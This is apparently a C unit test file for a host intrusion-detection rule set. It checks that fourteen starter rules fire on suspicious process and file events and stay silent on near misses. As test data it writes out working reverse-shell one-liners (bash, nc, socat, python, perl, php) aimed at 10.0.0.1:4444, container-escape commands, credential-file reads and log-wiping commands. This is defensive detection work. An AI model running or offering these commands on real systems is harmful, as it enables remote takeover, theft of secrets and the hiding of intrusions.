/* The starter rules: each fires on an event of its kind and is silent on a near miss. That real acts make such events
 * is shown by tests/system/test_watch_rules.py. */
#include "rules_fixture.h"

#include "base/cleanup.h"

#include <fcntl.h>

static struct rules *starter;

static int load_starter(void **state)
{
        (void)state;
        static const char *const paths[] = { "starter", NULL };
        struct error err = { 0 };
        if (rules_load(&(struct rules_options){ .paths = paths }, &starter, &err) < 0) {
                print_error("%s\n", err.message);
                return -1;
        }
        return 0;
}

static int free_starter(void **state)
{
        (void)state;
        rules_free(starter);
        return 0;
}

static void fires(const char *rule, struct event event)
{
        if (!hits(starter, &event, rule))
                fail_msg("%s is silent on %s", rule, event.process.exe ? event.process.exe : event.object.path);
}

static void silent(const char *rule, struct event event)
{
        if (hits(starter, &event, rule))
                fail_msg("%s fires on %s %s", rule, event.process.exe ? event.process.exe : "",
                        event.process.argv.count > 1 ? event.process.argv.items[event.process.argv.count - 1] : "");
}

/* No rule at all. */
static void nothing(struct event event)
{
        if (rules_match(starter, &event, event.time_ns, NULL, NULL))
                fail_msg("%s fires on %s", rules_tags(starter).items[0], event.process.exe);
}

static struct event in_container(struct event event)
{
        set_container(&event, "web");
        return event;
}

static struct event below(struct event event, const char *exe)
{
        const char *slash = strrchr(exe, '/');
        set_parent(&event, slash ? slash + 1 : exe, exe);
        return event;
}

#define EXEC(...) exec_event(__VA_ARGS__, NULL)
#define FILE_EVENT(exe, operation, path, key) object_event(EVENT_FILE, exe, operation, path, key)

static void test_reverse_shell(void **state)
{
        (void)state;
        const char *rule = "reverse-shell";
        fires(rule, EXEC("/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
        fires(rule, EXEC("/usr/bin/dash", "sh", "-c",
                            "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done"));
        fires(rule, EXEC("/usr/bin/dash", "sh", "-c",
                            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f"));
        fires(rule, EXEC("/usr/bin/nc.traditional", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"));
        fires(rule, EXEC("/usr/bin/ncat", "ncat", "--sh-exec", "/bin/bash", "-lvp", "1"));
        fires(rule, EXEC("/bin/busybox", "nc", "10.0.0.1", "1", "-e", "sh"));
        fires(rule, EXEC("/usr/bin/socat1", "socat", "TCP:10.0.0.1:4444", "EXEC:'bash -li',pty,stderr"));
        fires(rule, EXEC("/usr/bin/python3.11", "python3", "-c",
                            "import "
                            "socket,os,pty;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);pty.spawn('/bin/"
                            "sh')"));
        fires(rule, EXEC("/usr/bin/perl", "perl", "-e",
                            "use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,'>&S');exec('/bin/sh -i');"));
        fires(rule, EXEC("/usr/bin/php8.2", "php", "-r", "$s=fsockopen('h',1);exec('/bin/sh -i <&3 >&3 2>&3');"));
        silent(rule, EXEC("/usr/bin/bash", "bash", "-c", "(echo > /dev/tcp/db/5432) >/dev/null 2>&1 && echo up"));
        silent(rule, EXEC("/usr/bin/nc.openbsd", "nc", "-z", "-v", "db", "5432"));
        silent(rule, EXEC("/usr/bin/nc.openbsd", "nc", "-l", "4444"));
        silent(rule, EXEC("/usr/bin/socat1", "socat", "TCP-LISTEN:80,fork", "TCP:10.0.0.1:80"));
        silent(rule, EXEC("/usr/bin/socat1", "socat", "-", "EXEC:bash"));
        silent(rule, EXEC("/usr/bin/python3.11", "python3", "-c", "import socket;print(socket.gethostname())"));
        silent(rule, EXEC("/usr/bin/grep", "grep", "bash -i >& /dev/tcp/", "notes"));
}

static void test_shell_in_container(void **state)
{
        (void)state;
        const char *rule = "shell-in-container";
        struct event shell = below(EXEC("/bin/bash", "bash"), "/usr/bin/runc");
        shell.process.tty = "pts0";
        fires(rule, in_container(shell));
        fires(rule, in_container(below(EXEC("/bin/busybox", "sh", "-i"), "/usr/bin/runc")));
        silent(rule, shell); /* not in a container */
        silent(rule, in_container(below(
                             EXEC("/bin/sh", "sh", "-c", "x"), "/usr/bin/runc"))); /* no terminal: an entry point */
        shell = below(shell, "/bin/bash");
        silent(rule, in_container(shell)); /* the session's own children */
}

static void test_service_shell(void **state)
{
        (void)state;
        const char *rule = "service-shell";
        fires(rule, below(EXEC("/usr/bin/dash", "sh", "-c", "id"), "/usr/sbin/nginx"));
        fires(rule, below(EXEC("/usr/bin/dash", "sh", "-c", "id"), "/usr/sbin/php-fpm8.2"));
        silent(rule, below(EXEC("/usr/bin/id", "id"), "/usr/sbin/nginx"));
        silent(rule, below(EXEC("/usr/bin/dash", "sh", "-c", "id"), "/usr/sbin/cron"));
        silent(rule, below(EXEC("/usr/bin/dash", "sh", "-c", "/usr/sbin/sendmail -t -i"), "/usr/sbin/php-fpm8.2"));
        fires(rule, below(EXEC("/usr/bin/dash", "sh", "-c", "/usr/sbin/sendmail -t; id"), "/usr/sbin/php-fpm8.2"));
}

static void test_package_manager(void **state)
{
        (void)state;
        const char *rule = "package-manager-in-container";
        fires(rule, in_container(EXEC("/usr/bin/apt-get", "apt-get", "install", "-y", "nmap")));
        fires(rule, in_container(EXEC("/sbin/apk", "apk", "add", "nmap")));
        fires(rule, in_container(EXEC("/usr/bin/rpm", "rpm", "-ivh", "x.rpm")));
        fires(rule, in_container(EXEC("/usr/bin/python3.11", "python3", "/usr/bin/pip3", "install", "x")));
        silent(rule, EXEC("/usr/bin/apt-get", "apt-get", "install", "-y", "nmap"));
        silent(rule, in_container(EXEC("/usr/bin/dpkg", "dpkg", "-l")));
        silent(rule, in_container(EXEC("/usr/bin/rpm", "rpm", "-qi", "x")));
        silent(rule, in_container(EXEC("/usr/bin/grep", "grep", "install", "apt")));
        silent(rule, in_container(below(EXEC("/usr/bin/apt-get", "apt-get", "install", "x"), "/usr/bin/buildah")));
}

static void test_setuid_bit(void **state)
{
        (void)state;
        const char *rule = "setuid-bit";
        static char *const modes[] = { (char *)"u+s", (char *)"+s", (char *)"a+s", (char *)"ug+s", (char *)"gu+s",
                (char *)"4755", (char *)"04755", (char *)"6755", (char *)"u=rwxs,go=rx", (char *)"g-w,u+s" };
        for (size_t i = 0; i < sizeof(modes) / sizeof(modes[0]); i++)
                fires(rule, EXEC("/usr/bin/chmod", "chmod", modes[i], "/tmp/x"));
        static char *const harmless[] = { (char *)"0755", (char *)"755", (char *)"g+s", (char *)"2755", (char *)"1777",
                (char *)"u+x", (char *)"u-s", (char *)"go+rx", (char *)"4755.txt" };
        for (size_t i = 0; i < sizeof(harmless) / sizeof(harmless[0]); i++)
                silent(rule, EXEC("/usr/bin/chmod", "chmod", harmless[i], "/tmp/x"));
        fires(rule, EXEC("/usr/bin/install", "install", "-m", "4755", "a", "b"));
        silent(rule, EXEC("/usr/bin/install", "install", "-m", "0755", "a", "b"));
        fires(rule, FILE_EVENT("/tmp/evil", "attribute", "/tmp/x", "tarsier-setuid"));
        silent(rule, FILE_EVENT("/tmp/evil", "attribute", "/tmp/x", "other"));
        silent(rule, FILE_EVENT("/usr/bin/dpkg", "attribute", "/usr/bin/sudo", "tarsier-setuid"));
        struct event failed = FILE_EVENT("/tmp/evil", "attribute", "/tmp/x", "tarsier-setuid");
        failed.audit.success = false;
        silent(rule, failed);
}

static void test_kernel_module(void **state)
{
        (void)state;
        const char *rule = "kernel-module";
        fires(rule, EXEC("/usr/bin/kmod", "insmod", "/tmp/rootkit.ko"));
        fires(rule, EXEC("/usr/bin/kmod", "/sbin/modprobe", "loop"));
        fires(rule, object_event(EVENT_MODULE, "/usr/bin/kmod", "load", NULL, "tarsier-module"));
        silent(rule, EXEC("/usr/bin/kmod", "lsmod"));
        silent(rule, EXEC("/usr/bin/kmod", "modprobe", "-n", "loop"));
        struct event asked = EXEC("/usr/bin/kmod", "modprobe", "-q", "--", "net-pf-10");
        set_parent(&asked, "kworker/u4:1", NULL);
        silent(rule, asked);
        set_parent(&asked, "kworker/u4:1", "/tmp/evil"); /* only by its name */
        fires(rule, asked);
}

static void test_persistence(void **state)
{
        (void)state;
        const char *rule = "persistence-write";
        static const char *const places[] = { "/etc/cron.d/x", "/etc/crontab", "/var/spool/cron/crontabs/root",
                "/etc/systemd/system/x.service", "/etc/profile.d/x.sh", "/etc/ld.so.preload", "/etc/rc.local",
                "/root/.ssh/authorized_keys", "/home/u/.ssh/authorized_keys2", "/etc/init.d/x", "/root/.bashrc" };
        for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++)
                fires(rule, FILE_EVENT("/usr/bin/vim", "write", places[i], "k"));
        silent(rule, FILE_EVENT("/usr/bin/vim", "write", "/etc/hostname", "k"));
        silent(rule, FILE_EVENT("/usr/bin/vim", "write", "/root/.ssh/known_hosts", "k"));
        silent(rule, FILE_EVENT("/usr/bin/cat", "read", "/etc/crontab", "k"));
        silent(rule, FILE_EVENT("/usr/bin/dpkg", "write", "/etc/cron.d/x", "k"));
}

static void test_log_tampering(void **state)
{
        (void)state;
        const char *rule = "log-tampering";
        fires(rule, EXEC("/usr/bin/rm", "rm", "-f", "/var/log/auth.log"));
        fires(rule, EXEC("/usr/bin/shred", "shred", "/root/.bash_history"));
        fires(rule, EXEC("/usr/bin/truncate", "truncate", "-s", "0", "/var/log/syslog"));
        fires(rule, EXEC("/usr/bin/dd", "dd", "if=/dev/null", "of=/var/log/wtmp"));
        fires(rule, EXEC("/usr/bin/ln", "ln", "-sf", "/dev/null", "/root/.bash_history"));
        fires(rule, EXEC("/usr/sbin/auditctl", "auditctl", "-D"));
        fires(rule, EXEC("/usr/sbin/auditctl", "auditctl", "-e", "0"));
        fires(rule, EXEC("/usr/bin/systemctl", "systemctl", "stop", "auditd"));
        fires(rule, EXEC("/usr/bin/bash", "bash", "-c", "history -c; id"));
        fires(rule, EXEC("/usr/bin/bash", "bash", "-c", "> /var/log/auth.log"));
        fires(rule, FILE_EVENT("/usr/bin/python3.11", "delete", "/var/log/auth.log", "tarsier-log"));
        silent(rule, EXEC("/usr/bin/rm", "rm", "-f", "/tmp/var/log/x"));
        silent(rule, EXEC("/usr/bin/tail", "tail", "/var/log/auth.log"));
        silent(rule, EXEC("/usr/sbin/auditctl", "auditctl", "-l"));
        silent(rule, EXEC("/usr/sbin/auditctl", "auditctl", "-e", "1"));
        silent(rule, EXEC("/usr/bin/systemctl", "systemctl", "status", "auditd"));
        silent(rule, EXEC("/usr/bin/systemctl", "systemctl", "stop", "nginx"));
        silent(rule, EXEC("/usr/bin/bash", "bash", "-c", "echo x >> /var/log/auth.log"));
        silent(rule, FILE_EVENT("/usr/sbin/logrotate", "rename", "/var/log/auth.log.1", "tarsier-log"));
        silent(rule, below(EXEC("/usr/bin/rm", "rm", "/var/log/x.1"), "/usr/sbin/logrotate"));
}

static void test_exec_from_temp(void **state)
{
        (void)state;
        const char *rule = "exec-from-temp";
        fires(rule, EXEC("/tmp/x", "./x"));
        fires(rule, EXEC("/dev/shm/x", "x"));
        fires(rule, EXEC("/memfd:x (deleted)", "x"));
        fires(rule, EXEC("/usr/local/bin/x (deleted)", "x"));
        silent(rule, EXEC("/usr/bin/dash", "sh", "/tmp/x.sh"));
        silent(rule, EXEC("/usr/tmp/x", "x"));
        silent(rule, below(EXEC("/tmp/conftest", "./conftest"), "/usr/bin/make"));
        silent(rule, below(EXEC("/memfd:runc_cloned:/proc/self/exe (deleted)", "runc", "init"),
                             "/usr/bin/containerd-shim-runc-v2"));
        fires(rule, below(EXEC("/memfd:runc_cloned:/proc/self/exe (deleted)", "runc", "init"), "/usr/bin/bash"));
}

static void test_ptrace(void **state)
{
        (void)state;
        const char *rule = "ptrace-attach";
        fires(rule, object_event(EVENT_PTRACE, "/usr/bin/python3.11", "attach", NULL, "tarsier-ptrace"));
        silent(rule, object_event(EVENT_PTRACE, "/usr/bin/strace", "attach", NULL, "tarsier-ptrace"));
        struct event refused = object_event(EVENT_PTRACE, "/usr/bin/python3.11", "attach", NULL, "tarsier-ptrace");
        refused.audit.success = false;
        silent(rule, refused);
        silent(rule, object_event(EVENT_PTRACE, "/usr/bin/python3.11", "traceme", NULL, NULL));
}

static void test_accounts(void **state)
{
        (void)state;
        const char *rule = "account-change";
        fires(rule, EXEC("/usr/sbin/useradd", "useradd", "eve"));
        fires(rule, FILE_EVENT("/usr/bin/vim", "write", "/etc/shadow", "tarsier-identity"));
        fires(rule, FILE_EVENT("/usr/bin/vim", "create", "/etc/sudoers.d/x", "tarsier-identity"));
        fires(rule, object_event(EVENT_USER, "/usr/sbin/useradd", "ADD_USER", NULL, NULL));
        silent(rule, FILE_EVENT("/usr/bin/cat", "read", "/etc/passwd", "tarsier-identity"));
        silent(rule, EXEC("/usr/bin/getent", "getent", "passwd"));
        silent(rule, object_event(EVENT_USER, "/usr/sbin/sshd", "USER_LOGIN", NULL, NULL));
        silent(rule, below(EXEC("/usr/sbin/adduser", "adduser", "--system", "x"), "/usr/bin/dpkg"));
}

static void test_escape(void **state)
{
        (void)state;
        const char *rule = "container-escape";
        fires(rule, EXEC("/usr/bin/nsenter", "nsenter", "-t", "1", "-m", "sh"));
        fires(rule, EXEC("/usr/bin/nsenter", "nsenter", "--target=1", "-a"));
        fires(rule, EXEC("/usr/bin/nsenter", "nsenter", "-t1", "-m"));
        fires(rule, in_container(EXEC("/usr/bin/mount", "mount", "/dev/sda1", "/mnt")));
        fires(rule, in_container(EXEC("/usr/bin/unshare", "unshare", "-UrmC", "sh")));
        fires(rule, in_container(EXEC("/usr/bin/dash", "sh", "-c", "echo /x > /sys/fs/cgroup/rdma/release_agent")));
        fires(rule, in_container(EXEC("/usr/bin/curl", "curl", "--unix-socket", "/var/run/docker.sock", "http://x/")));
        silent(rule, EXEC("/usr/bin/nsenter", "nsenter", "-t", "4711", "-n"));
        silent(rule, EXEC("/usr/bin/mount", "mount", "/dev/sda1", "/mnt"));
        silent(rule, in_container(EXEC("/usr/bin/mount", "mount", "-t", "tmpfs", "tmpfs", "/mnt")));
        silent(rule, in_container(EXEC("/usr/bin/dash", "sh", "-c", "cat /sys/fs/cgroup/memory.max")));
}

static void test_credentials(void **state)
{
        (void)state;
        const char *rule = "credential-read";
        fires(rule, EXEC("/usr/bin/cat", "cat", "/etc/shadow"));
        fires(rule, EXEC("/usr/bin/dd", "dd", "if=/root/.ssh/id_ed25519"));
        fires(rule, EXEC("/usr/bin/cat", "cat", "/home/u/.aws/credentials"));
        fires(rule, EXEC("/usr/bin/strings", "strings", "/proc/1/environ"));
        silent(rule, EXEC("/usr/bin/cat", "cat", "/etc/passwd"));
        silent(rule, EXEC("/usr/bin/cat", "cat", "/root/.ssh/id_ed25519.pub"));
        silent(rule, EXEC("/usr/bin/ssh", "ssh", "-i", "/root/.ssh/id_ed25519", "host"));
        silent(rule, EXEC("/usr/bin/ls", "ls", "-l", "/etc/shadow"));
}

static void test_crash_storm(void **state)
{
        (void)state;
        const char *rule = "crash-storm";
        struct event event = EXEC("/usr/bin/victim", "victim");
        event.type = EVENT_EXIT;
        event.has_exit = true;
        event.exit.signal = SIGSEGV;
        for (int i = 0; i < 4; i++)
                silent(rule, event);
        fires(rule, event);
        event.exit.signal = SIGTERM; /* asked to end */
        event.process.exe = "/usr/bin/other";
        for (int i = 0; i < 10; i++)
                silent(rule, event);
}

/* What happens all day on a server. */
static void test_ordinary_events(void **state)
{
        (void)state;
        nothing(EXEC("/usr/bin/ls", "ls", "-la", "/etc"));
        nothing(below(EXEC("/usr/bin/dash", "sh", "-c", "run-parts --report /etc/cron.hourly"), "/usr/sbin/cron"));
        nothing(EXEC("/usr/bin/bash", "-bash"));
        nothing(EXEC("/usr/bin/apt-get", "apt-get", "update"));
        nothing(EXEC("/usr/bin/systemctl", "systemctl", "restart", "nginx"));
        nothing(EXEC("/usr/bin/python3.11", "python3", "manage.py", "runserver"));
        nothing(EXEC("/usr/bin/ssh", "ssh", "-i", "/root/.ssh/id_rsa", "host"));
        nothing(in_container(EXEC("/usr/local/bin/node", "node", "server.js")));
        nothing(in_container(
                below(EXEC("/bin/sh", "sh", "-c", "exec nginx -g 'daemon off;'"), "/usr/bin/containerd-shim-runc-v2")));
        nothing(FILE_EVENT("/usr/sbin/sshd", "write", "/var/log/lastlog", "k"));
        nothing(EXEC("/usr/bin/git", "git", "commit", "-m", "rm /var/log/x"));
}

static bool check_rule(const struct rule *rule, void *cookie)
{
        unsigned *count = cookie;
        assert_true(rule->summary[0] != '\0');
        assert_true(rule->mitre.count > 0);
        assert_true(rule->enabled);
        assert_string_equal(rule->file, "starter.yaml");
        ++*count;
        return true;
}

static void problem(void *cookie, bool warning, const char *text)
{
        (void)cookie;
        (void)warning;
        print_error("%s\n", text);
        ++*(unsigned *)cookie;
}

static void test_the_set(void **state)
{
        (void)state;
        unsigned count = 0, problems = 0;
        struct error err;
        static const char *const paths[] = { "starter", NULL };
        rules_each(starter, check_rule, &count);
        assert_int_equal(count, 14);
        assert_int_equal(rules_check(&(struct rules_options){ .paths = paths }, problem, &problems, &err), 0);
        assert_int_equal(problems, 0); /* no list or macro without use either */
        for (size_t i = 0; rules_watches[i]; i++)
                assert_non_null(strstr(rules_watches[i], "-k tarsier-"));
        assert_true(rules_watch_possible(AT_FDCWD, "-w /nonexistent -p wa -k x")); /* the kernel waits for it */
        assert_false(rules_watch_possible(AT_FDCWD, "-w /nonexistent/file -p wa -k x"));
        assert_true(rules_watch_possible(AT_FDCWD, "-a always,exit -S mount -k x"));
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_reverse_shell),
                cmocka_unit_test(test_shell_in_container),
                cmocka_unit_test(test_service_shell),
                cmocka_unit_test(test_package_manager),
                cmocka_unit_test(test_setuid_bit),
                cmocka_unit_test(test_kernel_module),
                cmocka_unit_test(test_persistence),
                cmocka_unit_test(test_log_tampering),
                cmocka_unit_test(test_exec_from_temp),
                cmocka_unit_test(test_ptrace),
                cmocka_unit_test(test_accounts),
                cmocka_unit_test(test_escape),
                cmocka_unit_test(test_credentials),
                cmocka_unit_test(test_crash_storm),
                cmocka_unit_test(test_ordinary_events),
                cmocka_unit_test(test_the_set),
        };
        return cmocka_run_group_tests(tests, load_starter, free_starter);
}
